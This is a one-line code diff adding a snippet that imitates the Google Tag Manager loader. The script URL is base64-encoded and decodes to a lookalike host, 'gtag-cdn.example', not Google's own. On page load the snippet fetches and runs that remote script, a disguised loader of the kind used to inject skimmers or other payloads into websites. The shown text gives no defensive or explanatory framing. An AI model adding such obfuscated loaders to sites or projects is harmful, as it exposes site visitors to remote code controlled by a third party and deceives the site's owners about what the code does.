@@ -1,0 +1,1 @@
+(function(w,d,s,l,i){w[l]=w[l]||[];w[l].push({"gtm.start":new Date().getTime(),event:"gtm.js"});var f=d.getElementsByTagName(s)[0],j=d.createElement(s),dl=l!="dataLayer"?"&l="+l:"";j.async=true;j.src=w.atob("aHR0cHM6Ly93d3cuZ3RhZy1jZG4uZXhhbXBsZS9ucy5qcz9pZD0=")+i+dl;f.parentNode.insertBefore(j,f)})(window,document,"script","dataLayer","GTM-0000000");
